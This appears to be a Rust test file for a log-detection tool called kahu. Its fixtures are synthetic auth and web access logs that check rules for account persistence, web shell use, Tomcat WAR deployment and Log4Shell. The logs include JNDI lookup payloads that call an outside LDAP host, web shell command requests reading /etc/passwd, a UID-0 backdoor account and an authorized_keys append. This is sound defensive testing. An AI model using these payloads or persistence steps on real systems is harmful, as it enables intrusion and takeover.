//! kahu's rules for Linux authentication logs and web-server access logs
//! (`rules/lnx_*.yml`, `rules/web_*.yml`) over the text-log readers.
//!
//! The evidence is written here line by line; each expectation names the
//! line and why the rule must (or must not) fire on it, read from the line
//! and the rule's detection, not from kahu's output. The benign lines are
//! the look-alikes an administrator produces (docker group, apt-get through
//! sudo, `sort=id`, a 404 from a scanner probing for shells).
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

use kahu_assess::detect;
use kahu_correlation::SigmaRules;
use kahu_event::Location;
use kahu_finding::{Detector, Finding, NoObserver};
use kahu_sigma::{LoadOptions, RuleSet};
use std::path::Path;

const ADMIN_GROUP: &str = "0d7487a9-47a5-59cf-a93d-f36269acc4f3";
const UID0_ACCOUNT: &str = "da6be20d-d00b-52f1-8bdf-1a8cebd81a28";
const AUTHORIZED_KEYS: &str = "18b2d72d-ef02-5c17-a6f6-0a6a4a2b34bd";
const LOG4SHELL: &str = "81bb0bfa-fd9a-559e-b629-08baafa6bd78";
const WEB_SHELL_COMMAND: &str = "3ee8d5ae-5bb6-5060-b125-7bb11456d29c";
const TOMCAT_DEPLOY: &str = "73e5214e-dae0-536e-9410-91b56e658ef8";
const TOMCAT_DEPLOY_THEN_SCRIPT: &str = "2f6a9c1e-84d3-5e07-b9a2-d15c7e3f0a48";

const AUTH_LOG: &str = "\
Nov 28 13:52:10 web01 useradd[14900]: new user: name=sysupd, UID=1003, GID=1003, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1
Nov 28 13:52:10 web01 useradd[14900]: add 'sysupd' to group 'sudo'
Nov 28 13:52:11 web01 usermod[14905]: add 'alice' to group 'docker'
Nov 28 13:52:12 web01 usermod[14906]: add 'sysupd2' to group 'wheel'
Nov 28 13:53:00 web01 useradd[14910]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1
Nov 28 13:53:30 web01 sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys
Nov 28 13:54:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update
Nov 28 13:55:00 web01 sshd[15000]: Accepted publickey for sysupd from 203.0.113.50 port 50000 ssh2: ED25519 SHA256:abc
Nov 28 13:56:00 web01 useradd[14920]: new user: name=svc10, UID=1010, GID=1010, home=/home/svc10, shell=/bin/false, from=none
";

const ACCESS_LOG: &str = r#"203.0.113.50 - - [28/Nov/2026:14:02:43 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 54 "-" "python-requests/2.31.0"
203.0.113.50 - - [28/Nov/2026:14:02:50 +0000] "GET /uploads/shell.php?cmd=cat+/etc/passwd HTTP/1.1" 200 2301 "-" "python-requests/2.31.0"
198.51.100.9 - - [28/Nov/2026:14:03:00 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x"
10.0.1.15 - - [28/Nov/2026:14:03:10 +0000] "GET /admin/users.php?sort=id&dir=asc HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64)"
203.0.113.50 - - [28/Nov/2026:14:04:00 +0000] "GET /uploads/s.php?c=whoami HTTP/1.1" 200 12 "-" "python-requests/2.31.0"
45.155.205.233 - - [28/Nov/2026:14:05:00 +0000] "GET /api/v1/users HTTP/1.1" 200 99 "-" "${jndi:ldap://203.0.113.50:1389/Exploit}"
45.155.205.233 - - [28/Nov/2026:14:05:01 +0000] "GET /?x=%24%7Bjndi:dns://x.example.net/a%7D HTTP/1.1" 404 196 "-" "curl/8.5.0"
45.155.205.233 - - [28/Nov/2026:14:05:02 +0000] "GET / HTTP/1.1" 200 612 "-" "${${lower:j}ndi:${lower:l}dap://203.0.113.50/a}"
10.0.1.16 - - [28/Nov/2026:14:06:00 +0000] "GET /search.php?q=how+to+use+%24%7Bvariable%7D HTTP/1.1" 200 900 "-" "Mozilla/5.0 (X11; Linux x86_64)"
10.0.1.16 - - [28/Nov/2026:14:06:10 +0000] "GET /docs/?cmd=ls-help HTTP/1.1" 200 900 "-" "Mozilla/5.0 (X11; Linux x86_64)"
10.0.1.16 - - [28/Nov/2026:14:06:20 +0000] "GET /search.php?q=whoami+select+committee HTTP/1.1" 200 900 "-" "Mozilla/5.0 (X11; Linux x86_64)"
"#;

fn pack() -> SigmaRules {
    let report = RuleSet::from_yaml(kahu_demo::linux_web_rule_pack(), &LoadOptions::default());
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    // One rule per file, plus the Tomcat file's two correlation bases.
    assert_eq!(report.compiled, kahu_demo::linux_web_rule_pack().len() + 2);
    let rules = SigmaRules::new(report);
    assert!(
        rules.correlation_errors.is_empty(),
        "{:?}",
        rules.correlation_errors
    );
    rules
}

fn hunt(rules: &SigmaRules, dir: &Path) -> Vec<Finding> {
    let (files, walk) = detect::list_files(&[dir.to_path_buf()]);
    assert!(walk.is_empty(), "{walk:?}");
    let scan = rules.scan();
    let detectors: [&dyn Detector; 1] = [&scan];
    let out = detect::run(&files, &detectors, || NoObserver, &());
    assert!(out.events > 0);
    let mut findings = out.findings;
    findings.extend(scan.finish().findings);
    findings
}

/// Lines of `file` on which `rule_id` fired, sorted.
fn lines(findings: &[Finding], rule_id: &str, file: &str) -> Vec<u64> {
    let mut v: Vec<u64> = findings
        .iter()
        .filter(|f| &*f.rule_id == rule_id && f.provenance.file.ends_with(file))
        .map(|f| match f.provenance.location {
            Location::Line(n) => n,
            ref other => panic!("text-log finding without a line: {other:?}"),
        })
        .collect();
    v.sort_unstable();
    v
}

/// Tomcat's access log in EVTX-ATTACK-SAMPLES' shape (lines 1–3 and 5 as
/// there, `web_attack_and_isp_webshell_localhost_access_log.txt`).
const TOMCAT_LOG: &str = r#"192.168.105.83 - - [11/Jul/2018:08:41:29 +0300] "GET /manager/html HTTP/1.1" 401 255
192.168.105.76 - admin [11/Jul/2018:13:27:49 +0300] "GET /manager/html/list HTTP/1.1" 200 19286
192.168.105.76 - admin [11/Jul/2018:13:34:43 +0300] "POST /manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=F7954D71D4A2ECCC4559EE7AB04DE17D HTTP/1.1" 200 19341
192.168.105.77 - - [11/Jul/2018:13:35:00 +0300] "POST /manager/html/upload HTTP/1.1" 401 2112
192.168.105.76 - - [11/Jul/2018:14:51:53 +0300] "GET /error/cmd.jsp HTTP/1.1" 200 48
10.0.0.9 - deployer [11/Jul/2018:15:00:00 +0300] "PUT /manager/text/deploy?path=/app&update=true HTTP/1.1" 200 40
10.0.0.9 - deployer [11/Jul/2018:15:00:05 +0300] "GET /manager/status.jsp HTTP/1.1" 200 3100
192.168.105.83 - - [11/Jul/2018:15:01:00 +0300] "GET /index.jsp HTTP/1.1" 200 11250
192.168.105.77 - - [11/Jul/2018:15:02:00 +0300] "GET /error/cmd.jsp HTTP/1.1" 200 48
"#;

fn evidence() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("web01/var/log");
    std::fs::create_dir_all(log.join("apache2")).unwrap();
    std::fs::create_dir_all(log.join("tomcat9")).unwrap();
    std::fs::write(log.join("auth.log"), AUTH_LOG).unwrap();
    std::fs::write(log.join("apache2/access.log"), ACCESS_LOG).unwrap();
    std::fs::write(log.join("tomcat9/localhost_access_log.txt"), TOMCAT_LOG).unwrap();
    dir
}

#[test]
fn a_war_deployed_through_the_tomcat_manager_is_detected() {
    let dir = evidence();
    let found = hunt(&pack(), dir.path());
    // Line 3: POST /manager/html/upload answered 200; line 6: the text
    // interface's deploy answered 200. Line 4 is an upload refused (401),
    // line 2 a listing, line 1 a refused login.
    assert_eq!(
        lines(&found, TOMCAT_DEPLOY, "localhost_access_log.txt"),
        [3, 6]
    );
}

/// The Tomcat intruder's deploy (line 3) and its request to the web shell
/// it deployed (line 5, /error/cmd.jsp answered 200) from the same address
/// are one finding, with both records as its evidence. The text
/// interface's deploy (line 6) was followed only by a manager page (line
/// 7, not an application's script); line 8 is a script requested by an
/// address that deployed nothing, line 9 one whose upload was refused
/// (line 4).
#[test]
fn a_script_requested_by_the_address_that_deployed_a_war_is_detected() {
    let dir = evidence();
    let found = hunt(&pack(), dir.path());
    let hits: Vec<&Finding> = found
        .iter()
        .filter(|f| &*f.rule_id == TOMCAT_DEPLOY_THEN_SCRIPT)
        .collect();
    assert_eq!(hits.len(), 1, "{hits:#?}");
    let mut evidence: Vec<u64> = hits[0]
        .related
        .iter()
        .map(|p| match p.location {
            Location::Line(n) => n,
            ref other => panic!("text-log finding without a line: {other:?}"),
        })
        .collect();
    evidence.sort_unstable();
    assert_eq!(evidence, [3, 5]);
    assert_eq!(hits[0].provenance.location, Location::Line(5));
    // The rule's `fields`: the URL and status of the request that
    // completed it (line 5), so containment can name the shell.
    let shown = |name: &str| {
        hits[0]
            .fields
            .iter()
            .find(|(k, _)| &**k == name)
            .map(|(_, v)| v.as_str())
    };
    assert_eq!(shown("cs-uri-stem"), Some("/error/cmd.jsp"));
    assert_eq!(shown("sc-status"), Some("200"));
    // The bases report nothing alone; the deploy rule still does.
    assert!(
        found.iter().all(|f| !f.title.ends_with("(base)")),
        "a base rule reported alone"
    );
    assert_eq!(
        lines(&found, TOMCAT_DEPLOY, "localhost_access_log.txt"),
        [3, 6]
    );
}

#[test]
fn linux_account_persistence_is_detected_and_admin_work_is_not() {
    let dir = evidence();
    let found = hunt(&pack(), dir.path());
    // Line 2: useradd -G sudo; line 4: usermod into wheel. Line 3 (docker)
    // is not an administrative group in the rule.
    assert_eq!(lines(&found, ADMIN_GROUP, "auth.log"), [2, 4]);
    // Line 5: UID=0. Lines 1 and 9 create accounts with UIDs 1003 and
    // 1010, which contain no bare 0.
    assert_eq!(lines(&found, UID0_ACCOUNT, "auth.log"), [5]);
    // Line 6: sudo tee -a /root/.ssh/authorized_keys; line 7 is apt-get.
    assert_eq!(lines(&found, AUTHORIZED_KEYS, "auth.log"), [6]);
}

#[test]
fn web_shell_use_and_log4shell_are_detected_and_look_alikes_are_not() {
    let dir = evidence();
    let found = hunt(&pack(), dir.path());
    // Lines 1, 2, 5: cmd=id, cmd=cat+/etc/passwd, c=whoami, each 200.
    // Line 3 is the same request answered 404 (a scanner probing), line 4
    // is sort=id (not a command parameter), line 10 cmd=ls-help (not a
    // command: the value goes on after "ls"), line 11 a site search for
    // "whoami select committee" (q= is no command parameter).
    assert_eq!(lines(&found, WEB_SHELL_COMMAND, "access.log"), [1, 2, 5]);
    // Line 6: ${jndi: in the user agent; line 7: URL-encoded in the query
    // (answered 404: an attempt still counts); line 8: ${${lower:j}ndi: in
    // the user agent. Line 9 quotes ${variable}, not a lookup.
    assert_eq!(lines(&found, LOG4SHELL, "access.log"), [6, 7, 8]);
}
